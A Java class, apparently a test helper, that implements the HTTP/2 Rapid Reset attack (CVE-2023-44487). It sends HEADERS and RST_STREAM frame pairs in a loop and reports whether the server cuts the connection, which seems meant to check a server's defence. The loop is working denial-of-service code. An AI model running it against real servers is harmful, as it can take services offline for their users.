package io.penstock.api;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;

/// A client of HTTP/2 that begins requests and resets each at once (CVE-2023-44487).
public final class RapidReset {
    private static final int CANCEL = 8;

    private RapidReset() {}

    /// @param socket connected, and about to speak HTTP/2; closed afterwards
    /// @param most requests to begin, of which some wait for nothing
    /// @return whether the server closes the connection meanwhile
    public static boolean isStopped(Socket socket, String scheme, String path, int most) throws IOException {
        byte[] headers = RawHttp2.headers(
                ":method",
                "POST",
                ":scheme",
                scheme,
                ":path",
                path,
                ":authority",
                "localhost",
                "content-type",
                "application/grpc",
                "te",
                "trailers");
        try (socket;
                RawHttp2 client = new RawHttp2(socket)) {
            try {
                for (int i = 0; i < most; i++) {
                    int stream = 2 * i + 1;
                    ByteArrayOutputStream pair = new ByteArrayOutputStream();
                    pair.writeBytes(RawHttp2.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, headers));
                    pair.writeBytes(RawHttp2.frame(RawHttp2.RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL}));
                    client.send(pair.toByteArray());
                }
            } catch (SocketException closed) {
                return true;
            }
            return !client.answersPing();
        }
    }
}
